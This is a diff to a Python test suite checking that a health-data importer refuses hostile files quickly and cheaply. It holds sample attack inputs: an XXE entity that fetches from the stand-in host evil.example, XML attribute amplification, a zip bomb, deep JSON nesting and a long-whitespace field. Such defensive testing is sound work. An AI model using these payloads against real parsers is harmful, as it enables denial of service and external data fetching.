@@ -207,13 +207,32 @@ BOMBS = {
     "an entity of a parameter": (
         b"<!DOCTYPE HealthData [<!ENTITY % x SYSTEM 'http://evil.example/x'>%x;]><HealthData/>", "declares entities",
     ),
+    "a default for every element": (
+        b'<!DOCTYPE HealthData [<!ATTLIST x a CDATA "' + b"A" * 1_000_000 + b'">]><HealthData>' + b"<x/>" * 2_000
+        + b"</HealthData>", "declares default values",
+    ),
+    "one habit many times": (
+        zipped({
+            "Habits.csv": "Position,Name\n" + "001,a\n" * 50_000,
+            "001 a/Checkmarks.csv": "Date,Value\n" + "2024-03-01,UNKNOWN\n" * 2_000,
+        }), "position '001' is there twice",
+    ),
+    "a thousand habits of 5 MB": (
+        zipped({
+            "Habits.csv": "Position,Name\n" + "".join(f"{n:03},a\n" for n in range(1, 31)),
+            **{f"{n:03} a/Checkmarks.csv": "Date,Value\n" + "\n" * 1_000_000 for n in range(1, 31)},
+        }), "unzips to more than 25 MB",
+    ),
+    "a moment of 9,000 spaces": (
+        b"day,pain\n" + f"2024-03-01 10:00{' ' * 9_000}am,7\n".encode() * 100, "no column under this header",
+    ),
     "an endless attribute": (b"<HealthData><Record type='" + b"x" * 20_000_000, "far too long"),
     "XML in an odd encoding": (b"<?xml version='1.0' encoding='shift_jis'?>\n<HealthData/>", "encoding that is not read"),
     "XML in no encoding": (b"<?xml version='1.0' encoding='nonsense'?>\n<HealthData/>", "encoding|broken"),
     "lists for ids": (pain_diary([{"_id": [1], "date": "x", "painDescription_id": {}}]), "Row 1 of diaryentries"),
     "deep JSON": (b'{"database":' + b"[" * 200_000, "broken or cut off|not a Pain Diary backup"),
     "other JSON": (b'{"database": {"content": [{"tableName": "diaryentries", "values": [7]}]}}', "no columns"),
-    "an archive of another app": (b'{"hello": 1}', "not a Pain Diary backup"),
+    "an archive of another app": (b'{"hello": 1}', "comes in by itself"),
     "half of UTF-16": (ANY_CSV.encode("utf-16")[:-1], "cut off or damaged"),
     "UTF-16 without its mark": (ANY_CSV.encode("utf-16-le"), "control character"),
     "nothing": (b"", "empty"),
@@ -238,6 +257,14 @@ def test_what_could_do_harm_is_refused_at_once_and_small(name: str) -> None:
     # Tracing memory slows the parser down several times; untraced each takes well under a second.
     assert seconds < 4
     assert peak < 100_000_000
+
+
+def test_a_name_full_of_spaces_costs_no_more_than_another() -> None:
+    head = "date formatted,category,rating/amount,detail\n"
+    begun = stopwatch.process_time()
+    found = arrived((head + f"2024-03-01,Symptom,3,a{' ' * 9_000}b (Mild)\n" * 50).encode())
+    assert stopwatch.process_time() - begun < 2
+    assert [one.name for one in found.sources] == [f"Symptom: a{' ' * 9_000}b"]
 
 
 def test_a_formula_in_a_foreign_name_or_note_stays_text_and_is_escaped_on_the_way_out(
